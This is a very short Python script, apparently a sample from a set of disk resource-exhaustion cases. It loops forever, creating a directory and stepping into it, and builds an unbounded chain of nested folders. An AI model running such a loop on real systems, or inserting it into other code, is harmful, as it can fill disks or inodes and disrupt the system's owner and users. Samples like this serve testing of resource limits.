# A chain of folders.
# full: disk
# user: disk

import os

while True:
    os.mkdir('d')
    os.chdir('d')
